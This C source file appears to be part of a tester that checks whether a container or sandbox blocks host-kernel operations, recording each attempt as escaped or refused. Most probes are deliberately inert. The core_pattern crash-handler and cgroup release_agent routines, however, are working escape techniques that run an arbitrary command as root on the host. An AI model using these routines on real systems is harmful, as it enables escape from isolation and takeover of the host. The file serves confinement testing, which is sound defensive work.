/*
 * Ways out over the kernel, which is the host's: its settings, of which some
 * name programs that it runs as root outside, and calls that change it.
 *
 * What is changed is changed to what it is: the kernel has then decided that
 * it may be.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/timex.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attempt.h"

#define MOUNT_POINT "/dev/shm/escape"

static int put(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);
    int written = fd < 0 ? -1 : (int)write(fd, text, strlen(text));

    if (fd >= 0)
        close(fd);
    return written;
}

/* setting PATH: writes what it reads there. */
static int setting(char **words)
{
    char text[512];
    int fd = open(words[0], O_RDONLY);
    ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

    if (fd >= 0)
        close(fd);
    if (length < 0)
        return refused(words[0]);
    text[length] = '\0';
    if (put(words[0], text) < 0)
        return refused(words[0]);
    return escaped("%s", strtok(text, "\n"));
}

/* write PATH TEXT: for settings that cannot be read. */
static int write_setting(char **words)
{
    if (put(words[0], words[1]) < 0)
        return refused(words[0]);
    return escaped("written");
}

/* crash-handler COMMAND: has the kernel run it, outside and as root, when a
 * program of ours crashes (core(5)). */
static int crash_handler(char **words)
{
    char text[128];
    pid_t child;

    snprintf(text, sizeof(text), "|%s", words[0]);
    if (put("/proc/sys/kernel/core_pattern", text) < 0)
        return refused("core_pattern");
    child = fork();
    if (child == 0)
        abort();
    if (child < 0 || waitpid(child, NULL, 0) != child)
        return refused("fork");
    return escaped("crashed");
}

/* release-agent NAME COMMAND: has the kernel run it, outside and as root, when
 * a cgroup of ours becomes empty (cgroup-v1/cgroups.rst, 1.4). The hierarchy
 * is one of our own without controllers; it ends with its mount. */
static int release_agent(char **words)
{
    char options[64];
    pid_t child;

    snprintf(options, sizeof(options), "none,name=%s", words[0]);
    if (mkdir(MOUNT_POINT, 0700) < 0 ||
        mount("cgroup", MOUNT_POINT, "cgroup", 0, options) < 0)
        return refused("mount");
    if (put(MOUNT_POINT "/release_agent", words[1]) < 0)
        return refused("release_agent");
    if (mkdir(MOUNT_POINT "/empty", 0700) < 0 ||
        put(MOUNT_POINT "/empty/notify_on_release", "1") < 0)
        return refused("notify_on_release");
    child = fork();
    if (child == 0)
        _exit(put(MOUNT_POINT "/empty/cgroup.procs", "0") < 0);
    if (child < 0 || waitpid(child, NULL, 0) != child)
        return refused("fork");
    rmdir(MOUNT_POINT "/empty");
    umount2(MOUNT_POINT, MNT_DETACH);
    return escaped("emptied");
}

/* format NAME: registers a format of programs, whose interpreter every user of
 * the host would run then; takes it back (binfmt-misc.rst). */
static int format(char **words)
{
    char text[128];

    if (mkdir(MOUNT_POINT, 0700) < 0 ||
        mount("format", MOUNT_POINT, "binfmt_misc", 0, NULL) < 0)
        return refused("mount");
    snprintf(text, sizeof(text), ":%s:E::%s::/false:", words[0], words[0]);
    if (put(MOUNT_POINT "/register", text) < 0)
        return refused("register");
    snprintf(text, sizeof(text), MOUNT_POINT "/%s", words[0]);
    put(text, "-1");
    return escaped("registered");
}

/* module: loads one that is none, which only who may load one is told. */
static int module(char **words)
{
    static const char image[] = "no module";

    (void)words;
    if (syscall(SYS_init_module, image, sizeof(image), "") == 0 ||
        errno == ENOEXEC)
        return escaped("image read");
    return refused("init_module");
}

/* reboot: by a command that there is not, which only who may is told. */
static int reboot_host(char **words)
{
    (void)words;
    if (syscall(SYS_reboot, 0xfee1dead, 672274793, 0x55555555, NULL) == 0 ||
        errno == EINVAL)
        return escaped("command read");
    return refused("reboot");
}

/* clock: sets it forward by nothing (adjtimex(2)). */
static int step_clock(char **words)
{
    struct timex step = {.modes = ADJ_SETOFFSET};

    (void)words;
    if (adjtimex(&step) < 0)
        return refused("adjtimex");
    return escaped("set");
}

/* log: how much the kernel's log holds, which others may not know. */
static int kernel_log(char **words)
{
    (void)words;
    if (klogctl(9 /* SYSLOG_ACTION_SIZE_UNREAD */, NULL, 0) < 0)
        return refused("syslog");
    return escaped("its size");
}

/* hostname: of the host, given again. */
static int hostname(char **words)
{
    char name[128] = "";

    (void)words;
    if (gethostname(name, sizeof(name) - 1) < 0 ||
        sethostname(name, strlen(name)) < 0)
        return refused("sethostname");
    return escaped("%s", name);
}

static int opened(long fd, const char *what)
{
    if (fd < 0)
        return refused(what);
    close((int)fd);
    return escaped("%s", what);
}

/* bpf: makes a map, without which no program is of use (bpf(2)). */
static int make_map(char **words)
{
    union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY,
                          .key_size = 4,
                          .value_size = 8,
                          .max_entries = 1};

    (void)words;
    return opened(syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof(map)), "bpf");
}

/* perf: watches the whole of processor 0, other containers included. */
static int watch(char **words)
{
    struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE,
                                    .size = sizeof(event),
                                    .config = PERF_COUNT_SW_CONTEXT_SWITCHES};

    (void)words;
    return opened(syscall(SYS_perf_event_open, &event, -1, 0, -1, 0),
                  "perf_event_open");
}

/* userfaultfd: holds the kernel in the midst of a copy, for as long as an
 * attack on a race needs. */
static int hold_kernel(char **words)
{
    (void)words;
    return opened(syscall(SYS_userfaultfd, 0), "userfaultfd");
}

const struct attempt kernel_attempts[] = {
    {"setting", 1, setting},
    {"write", 2, write_setting},
    {"crash-handler", 1, crash_handler},
    {"release-agent", 2, release_agent},
    {"format", 1, format},
    {"module", 0, module},
    {"reboot", 0, reboot_host},
    {"clock", 0, step_clock},
    {"log", 0, kernel_log},
    {"hostname", 0, hostname},
    {"bpf", 0, make_map},
    {"perf", 0, watch},
    {"userfaultfd", 0, hold_kernel},
    {NULL, 0, NULL},
};
